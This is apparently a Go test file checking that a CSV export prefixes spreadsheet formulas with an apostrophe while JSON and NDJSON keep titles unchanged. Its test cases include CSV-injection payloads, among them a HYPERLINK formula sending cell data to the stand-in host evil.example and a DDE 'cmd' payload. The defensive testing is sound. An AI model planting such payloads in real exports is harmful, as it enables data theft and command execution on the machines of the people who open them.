package export_test

import (
	"context"
	"fmt"
	"testing"

	"sscgraph/internal/apitest"
	"sscgraph/internal/auth"
)

// TestExportNeutralisesFormulas: text a MEMBER writes that a spreadsheet
// would run as a formula (a cell starting with =, +, -, @, tab or carriage
// return) is exported in CSV with a leading apostrophe, so that Excel shows
// it as text; JSON and NDJSON keep it exactly, and numbers stay numbers.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	apitest.ForEachBackend(t, testExportNeutralisesFormulas)
}

func testExportNeutralisesFormulas(t *testing.T, a *apitest.API) {
	ctx := context.Background()
	var org, offerKey int
	fmt.Sscan(a.Column(t, `SELECT provider_id FROM match_offers ORDER BY id LIMIT 1`)[0], &org)
	fmt.Sscan(a.Column(t, fmt.Sprintf(`SELECT id FROM match_offers WHERE provider_id = %d ORDER BY id LIMIT 1`, org))[0], &offerKey)
	_, key, err := auth.Create(ctx, a.DB.Client, auth.CreateOptions{Role: auth.RoleMember, OrganizationID: org})
	if err != nil {
		t.Fatal(err)
	}
	member := apitest.Caller{A: a, Key: key}
	offer := a.Codec.Encode(offerKey)

	for _, tt := range []struct {
		name, title, wantCSV string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"plus", `+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
		{"minus", `-2+3`, `'-2+3`},
		{"at", `@SUM(1,2)`, `'@SUM(1,2)`},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"plain", `Training on patents = fun`, `Training on patents = fun`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := member.Do(t, `mutation($id: ID!, $t: String!) { updateMatchOffer(id: $id, input: {title: $t}) { title } }`,
				map[string]any{"id": offer, "t": tt.title})
			if len(r.Errors) > 0 {
				t.Fatalf("update: %+v", r.Errors)
			}
			if got := r.Str("updateMatchOffer.title"); got != tt.title {
				t.Fatalf("the API stored title %q, want %q", got, tt.title)
			}

			_, rows := apitest.CSVRows(t, a.Export(t, "/export/matchOffers.csv", nil, ""))
			row := rowWithID(t, rows, offer)
			if got := row["title"]; got != tt.wantCSV {
				t.Errorf("CSV title: got %q, want %q", got, tt.wantCSV)
			}
			if got, want := row["capacity"], a.Column(t, fmt.Sprintf(`SELECT capacity FROM match_offers WHERE id = %d`, offerKey))[0]; got != want {
				t.Errorf("CSV capacity: got %q, want the number %q", got, want)
			}
			for _, format := range []string{"json", "ndjson"} {
				e := a.Export(t, "/export/matchOffers."+format, nil, "")
				objs := apitest.JSONRows
				if format == "ndjson" {
					objs = apitest.NDJSONRows
				}
				found := false
				for _, o := range objs(t, e) {
					if o["id"] == offer {
						found = true
						if got := o["title"]; got != tt.title {
							t.Errorf("%s title: got %q, want %q unchanged", format, got, tt.title)
						}
					}
				}
				if !found {
					t.Errorf("%s: no row with id %s", format, offer)
				}
			}
		})
	}
}

// rowWithID finds the CSV row of one ID.
func rowWithID(t *testing.T, rows []map[string]string, id string) map[string]string {
	t.Helper()
	for _, r := range rows {
		if r["id"] == id {
			return r
		}
	}
	t.Fatalf("no row with id %s among %d", id, len(rows))
	return nil
}
